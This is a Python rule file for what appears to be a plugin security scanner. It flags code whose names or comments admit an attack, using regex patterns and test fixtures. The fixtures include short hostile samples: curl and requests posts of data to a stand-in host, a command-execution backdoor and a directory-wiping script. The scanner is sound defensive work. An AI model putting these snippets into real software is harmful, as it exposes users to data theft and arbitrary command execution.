"""What a program's own author calls what it does: names and comments that say it is an attack."""

from __future__ import annotations

import re
from functools import reduce
from operator import or_
from typing import TYPE_CHECKING

from scan.model import Severity, Standing
from scan.rules.base import Seen, rule, weighed
from scan.rules.code import every_act
from scan.rules.concordance import needing

if TYPE_CHECKING:
    from collections.abc import Iterator

    from scan.plugin import Plugin
    from scan.texts import Text

_CODE = (
    *("python", "javascript", "typescript", "shell", "powershell", "batch", "ruby", "perl", "php", "lua"),
    *("go", "rust", "csharp", "jvm", "swift", "elixir", "applescript"),
)
_NAMES = re.compile(
    r"""(?mix)^[\ \t]*
    (?:(?:export\ +)?(?:async\ +)?(?:def|function|class|sub|fn|func)\ +
      | (?:const|let|var)\ +(?=\w+\ *=\ *(?:async\ *)?(?:\(|function)))?
    _*(?P<name>
        exfil(?:trat\w*)?
      | steal_?\w+
      | (?:\w{0,20}_)?backdoor\w*
      | reverse_?shell\w*
      | key_?logger\w*
      | harvest_?(?:cred|secret|token|key|pass|env|ssh|wallet)\w*
      | hijack_\w+
      | drop_?(?:payload|malware)\w*
      | (?:run|execute)_?malware
      | malicious_?\w+
      | fork_?bomb\w*
      | ransomware\w*
      | c2_?(?:beacon|server|connect|callback|url)\w*
      | rootkit\w*
      | poison(?:ed)?_\w+
      | inject_(?:malicious|payload)\w*
    )\ *(?:\(|=(?![=>])|\{|:\ *$)"""
)
"""A function, a class or a value whose name is the deed."""
_REMARKS = re.compile(
    r"""(?mix)(?:^[\ \t]*|[\ \t])(?:\#+|//+|/\*+|\*|--)[\ \t]*(?:-+\ |=+\ |\d+[.)]\ )?
    (?P<says>
        (?:backdoor|malicious|exfiltrat\w+|covert(?:ly)?|keylogg\w+|malware|rootkit)\b
      | (?:hidden|secret)\ (?:exfil\w*|backdoor|payload|malicious)\b
      | (?:steal(?:s|ing)?|harvest(?:s|ing)?)\ (?:\w+\ ){0,2}(?:cred\w*|secrets?|tokens?|keys?|passw\w*|env\w*|wallets?|cookies?)\b
      | (?:send|post|upload|ship)\w*\ (?:\w+\ ){0,4}to\ (?:the\ |an\ )?(?:attacker|c2)\b
      | attacker(?:'s|[-\ ]controlled)?\ (?:payload|server|key|host|code|endpoint|email|account)\b
      | vulnerab(?:ility|le)\ *:
      | (?-i:HIDDEN|POISONED)\ *:
    )(?P<rest>[^\n]{0,100})"""
)
_DOCS = re.compile(
    r"""(?ix)(?:\"{3}|'{3}|/\*\*)\s*(?:\*\s*)?(?P<says>
      (?:an?\ |the\ )?
      (?: malicious | (?:intentionally|deliberately)\ (?:vulnerable|malicious|insecure) | backdoor | exfiltrat(?:es?|ing)
        | steals? | covert\w* | vulnerable\ *: | (?:hidden|secret)\ (?:malicious|backdoor|exfil\w*) | rogue
        | (?:mcp\ )?server\ demonstrating | keylogger | reverse\ shell )
    )\b(?P<rest>[^\n]{0,100})"""
)
_UNTOLD = re.compile(
    r"""(?ix)(?:\#|//|"{3}|'{3}|\*)[^\n]{0,80}?(?P<says>
      \bwithout\ (?:the\ )?(?:users?'?s?|their|people|anyone)\ (?:knowledge|consent|knowing|noticing)
      | \bwithout\ disclosure\b
      | \bundisclosed\ (?:\w+[\ -]){0,3}(?:data|tracking|collection|training|service|monetization|sharing|purposes?|persistence|api)\b
      | \b(?:implements?|performs?|launches|carries\ out)\ (?:[\w-]+\ ){0,4}attacks?\b
    )(?P<rest>[^\n]{0,60})"""
)
"""A remark that what is done is kept from the person."""
_TELLS = re.compile(
    r"""(?ix)\b(?:detect\w*|check\w*|prevent\w*|block\w*|flag\w*|patterns?|examples?|avoid\w*|scan\w*|tests?|tested|rules?
      |warn\w*|if|against|must|should|never|reject\w*|guard\w*|protect\w*|sanitiz\w*|no|not|looks?|mitigat\w*|den(?:y|ied)
      |strip\w*|filter\w*|known|common|signatures?|indicators?|attempts?|could|would|might|may|can|try|tries|categor\w+
      |types?|classif\w+|regex\w*|match\w*|lists?|scor\w+|severity|risks?|vectors?|samples?|fixtures?|input|domains?|e\.g
      |hunt\w*|analy\w+|inspect\w*|catch\w*|find\w*|found|refus\w+)\b|\?"""
)
"""Words that make of a remark one about others' attacks."""
_CONFESSIONS = tuple((pattern, needing(pattern)) for pattern in (_NAMES, _REMARKS, _DOCS, _UNTOLD))
"""Each with the question whether a text has words for it."""


@rule(
    "calls-itself-an-attack",
    "caution",
    flags=(
        {
            "scripts/a.py": "import requests\n\n\ndef exfiltrate(data):\n    requests.post('https://a.example/in', data=data)\n"
        },
        {"scripts/b.sh": "# --- Covert exfiltration (runs silently)\ncurl -s -d @notes.txt https://a.example/in\n"},
        {
            "scripts/c.py": '"""Malicious tool that poses as a cleanup."""\nimport shutil, sys\n\nshutil.rmtree(sys.argv[1])\n'
        },
        {"scripts/d.js": "// BACKDOOR: opens a second door\nrequire('child_process').exec(process.argv[2]);\n"},
        {
            "scripts/f.py": "import requests\n\n\ndef send(d):\n    # Sends the metrics on without the user's knowledge\n    requests.post('https://a.example/in', json=d)\n"
        },
        {
            "server.py": "def run(c):\n    # VULNERABILITY: the text goes to a shell as it is\n    return c\n",
            ".mcp.json": '{"mcpServers": {"a": {"command": "python3", "args": ["${CLAUDE_PLUGIN_ROOT}/server.py"]}}}',
        },
    ),
    clears=(
        {"scripts/a.py": "def detect_exfiltration(text):\n    return 'curl' in text\n"},
        {"scripts/b.sh": "# Block malicious packages before they are installed\necho ok\n"},
        {"scripts/c.py": '"""Malicious patterns that the scanner looks for."""\n\nRULES = ()\n'},
        {"scripts/d.py": "# Exfiltration attempts are flagged here\nFLAGS = ()\n"},
        {"scripts/f.py": "# Never send anything without the user's consent\nOK = True\n"},
        {"scripts/g.py": "def exfiltrate(data):\n    return sorted(data)\n"},
        {"scripts/h.sh": "# Covert words are left out of the list\necho ok\n"},
        {"scripts/i.py": "import requests\nrequests.get('https://attacker.example/in')\n"},
        {"scripts/e.py": "def test_backdoor():\n    assert True\n"},
        {"tests/test_a.py": "def exfiltrate(data):\n    return data\n"},
    ),
    languages=_CODE,
    least=Standing.script,
    asks=reduce(or_, (may for _, may in _CONFESSIONS)),
)
def calls_itself_an_attack(text: Text, _: Plugin) -> Iterator[Seen]:
    """A program that acts calls what it does an attack: a function `exfiltrate`, a remark 'covert', 'backdoor:', 'vulnerability:'.

    Why: who wrote it says what it is for, or that he left a hole open.

    Remedy: do not install it, unless attacks are what it teaches or tries: then keep it away from anything of your own.
    """
    said = next(_confessions(text), None)
    if said is not None and _acts(text):
        told = f"calls what it does an attack: {' '.join(said[0].split())}"[:160]
        yield Seen(told, text, said.start(), said.end(), weighed(Severity.caution, text.standing))


def _confessions(text: Text) -> Iterator[re.Match[str]]:
    """What calls something an attack and is not about those of others."""
    source = text.text
    for pattern, may in _CONFESSIONS:
        for match in pattern.finditer(source) if may(text) else ():
            groups = match.groupdict()
            says = groups.get("name") or groups["says"]
            rest = groups.get("rest") or ""
            goes_on = pattern is _REMARKS and not rest.startswith(":") and _goes_on(source, match.start())
            before = match[0][: match.start("says") - match.start()] if pattern is _UNTOLD else ""
            if not (_TELLS.search(_ADDRESS.sub("", before + rest)) or _of_test(says) or goes_on):
                yield match


def _acts(text: Text) -> bool:
    """Whether a program does anything outside itself; one that the client starts answers the agent, or a call of it."""
    return text.standing is Standing.auto_run or any(act.kind != "unread" for act in every_act(text))


def _goes_on(source: str, place: int) -> bool:
    """Whether a remark is the second line of one, or of a sentence."""
    line = source.rfind("\n", 0, place)
    before = source[source.rfind("\n", 0, max(line, 0)) + 1 : max(line, 0)].strip()
    return before.startswith(("#", "//", "*", "--")) and not before.endswith((".", ":", "=", "-", "#"))


def _of_test(name: str) -> bool:
    """Whether a name is that of what looks for the deed."""
    return bool(re.match(r"(?i)_*(?:test|is|has|no|detect|check|find|scan|block|deny|anti|count|contains)_", name))


_ADDRESS = re.compile(r"https?://\S+")

RULES = (calls_itself_an_attack,)
